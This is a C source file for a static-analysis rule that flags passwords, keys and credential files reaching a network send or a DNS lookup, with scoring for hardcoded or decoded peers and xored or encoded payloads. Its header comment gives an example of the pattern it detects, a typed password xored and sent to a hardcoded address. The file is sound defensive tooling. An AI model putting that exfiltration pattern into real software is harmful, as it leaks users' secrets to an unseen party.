/* exfil/secret-to-network: a secret leaves for a peer nobody configured.
 *
 *     char *word = getpass("Password: ");
 *     for (size_t i = 0; word[i]; i++)
 *         word[i] ^= 0x5a;
 *     peer.sin_addr.s_addr = inet_addr("203.0.113.7");
 *     sendto(fd, word, strlen(word), 0, (struct sockaddr *)&peer, sizeof peer);
 *
 * Not caught: a secret that travels one bit at a time through conditions, or through a file.
 */
#include "checkers/ask.h"

/* A secret that chooses from a table is encoded by it, so VT_TAG_INDEX is data here. */
#define NOT_DATA ((VT_ABOUT_DATA | VT_TAG_HANDLE) & ~(uint32_t)VT_TAG_INDEX)

/* True if a constant among TRACE's sources is a name of KIND that tells of a secret. */
static bool names_secret(struct vt_program *program, const struct vt_trace *trace,
                         const char *kind)
{
    size_t count = 0;
    const struct vt_source *names = trace ? vt_trace_sources(trace, &count) : NULL;
    for (size_t i = 0; i < count; i++) {
        const struct vt_pattern *pattern =
            vt_models_classify(vt_program_models(program), kind, vt_source_text(&names[i]));
        if (pattern && vt_class_is(pattern->class_name, "secret"))
            return true;
    }
    return false;
}

/* True if the variable that event SOURCE read holds a secret, by its name. */
static bool is_secret_variable(struct vt_program *program, const struct vt_source *source)
{
    return names_secret(
        program, vt_trace_value(program, source->event, VT_ROLE_TARGET, VT_ABOUT_DATA), "variable");
}

/* True if the handle of read event SOURCE was opened with the path of a secret file. */
static bool is_secret_file(struct vt_program *program, const struct vt_source *source)
{
    return names_secret(
        program, vt_trace_role(program, source->event, VT_ROLE_HANDLE, "path", VT_ABOUT_DATA),
        "file");
}

/* What the secret is, for people; NULL if SOURCE is none. */
static const char *name_secret(struct vt_check *check, const struct vt_source *source)
{
    struct vt_program *program = vt_check_program(check);
    if (vt_source_is(program, source, VT_FACT_ORIGIN, "secret.credential"))
        return "A credential";
    if (vt_source_is(program, source, VT_FACT_ORIGIN, "secret.key"))
        return "A secret key";
    if (vt_source_is(program, source, VT_FACT_ORIGIN, "io.read") && is_secret_file(program, source))
        return "The content of a file of secrets";
    if (vt_source_is(program, source, VT_FACT_ORIGIN, "environment") &&
        is_secret_variable(program, source))
        return "A credential of the environment";
    return NULL;
}

static int weigh_peer(struct vt_check *check, struct vt_finding *finding, struct vt_event_ref ref)
{
    struct vt_peer peer = vt_ask_peer(vt_check_program(check), ref);
    switch (peer.kind) {
    case VT_PEER_CONSTANT:
        vt_finding_evidence(check, finding, "constant-peer", 30, "The peer is written in the program%s%s.",
                            *peer.name ? ": " : "", peer.name);
        if (peer.concealed)
            vt_finding_evidence(check, finding, "concealed-peer", 20,
                                "The peer is decoded before it is used.");
        return 45;
    case VT_PEER_CONFIGURED:
        return 5;
    case VT_PEER_LOCAL:
        return 0;
    case VT_PEER_CALLER:
        return 25;
    default:
        return 45;
    }
}

static void weigh_disguise(struct vt_check *check, struct vt_finding *finding, uint32_t tags)
{
    if (tags & VT_TAG_XOR)
        vt_finding_evidence(check, finding, "xored", 15, "It is xored on the way.");
    if (tags & VT_TAG_ENCODE)
        vt_finding_evidence(check, finding, "encoded", 10, "It is encoded on the way.");
    if (tags & VT_TAG_ENCRYPT)
        vt_finding_evidence(check, finding, "encrypted", 5,
                            "It is encrypted on the way; whoever has the key reads it.");
}

static void report(struct vt_check *check, struct vt_event_ref ref, const struct vt_trace *trace,
                   const struct vt_source *source, const char *secret, bool in_name)
{
    struct vt_finding *finding = vt_finding_new(check, ref);
    int base = weigh_peer(check, finding, ref);
    if (in_name) {
        base = 60;
        vt_finding_evidence(check, finding, "in-name", 20,
                            "It is part of the name that a resolver is asked for.");
    }
    weigh_disguise(check, finding, source->tags);
    vt_finding_message(check, finding, "%s from `%s` reaches the network.", secret,
                       vt_source_function(vt_check_program(check), source));
    vt_finding_path(check, finding, trace, source, "The secret is read here",
                    in_name ? "It is sent as part of a name to resolve" : "It is sent here");
    vt_finding_send(check, finding, base);
}

static void look_at(struct vt_check *check, struct vt_event_ref ref, enum vt_role role)
{
    size_t count = 0;
    const struct vt_trace *trace =
        vt_trace_value(vt_check_program(check), ref, role, NOT_DATA);
    const struct vt_source *sources = trace ? vt_trace_sources(trace, &count) : NULL;
    for (size_t i = 0; i < count; i++) {
        const char *secret = name_secret(check, &sources[i]);
        if (secret) {
            report(check, ref, trace, &sources[i], secret, role == VT_ROLE_PEER);
            return; /* one finding a place; the nearest secret tells the story */
        }
    }
}

static void run(struct vt_check *check)
{
    struct vt_program *program = vt_check_program(check);
    struct vt_arena *arena = vt_check_arena(check);
    size_t count;
    struct vt_event_ref *refs =
        vt_program_events(program, VT_FACT_EFFECT, "net.send", arena, &count);
    for (size_t i = 0; i < count; i++)
        look_at(check, refs[i], VT_ROLE_PAYLOAD);
    refs = vt_program_events(program, VT_FACT_EFFECT, "io.write", arena, &count);
    for (size_t i = 0; i < count; i++)
        if (vt_handle_is(program, refs[i], "socket") || vt_handle_is(program, refs[i], "tls"))
            look_at(check, refs[i], VT_ROLE_PAYLOAD);
    refs = vt_program_events(program, VT_FACT_EFFECT, "net.resolve", arena, &count);
    for (size_t i = 0; i < count; i++)
        look_at(check, refs[i], VT_ROLE_PEER);
}

const struct vt_rule vt_exfil_secret_to_network = {
    .id = "exfil/secret-to-network",
    .name = "SecretToNetwork",
    .summary = "A password, key or other secret is sent over the network",
    .description =
        "Something that only this host should know (a password that was typed, a stored hash, a "
        "private key, a file of secrets) reaches a network send or the name a resolver is asked "
        "for. Encoding or encrypting it on the way does not make it stay. A peer that is written in "
        "the program rather than configured speaks for a hidden channel.",
    .help = "Say in the declaration which service gets this secret and why, or remove the flow. If "
            "the peer is configured, let it come from the configuration on every path.",
    .cwe = "CWE-201,CWE-506",
    .precision = "high",
    .severity = 9.1,
    .run = run,
};
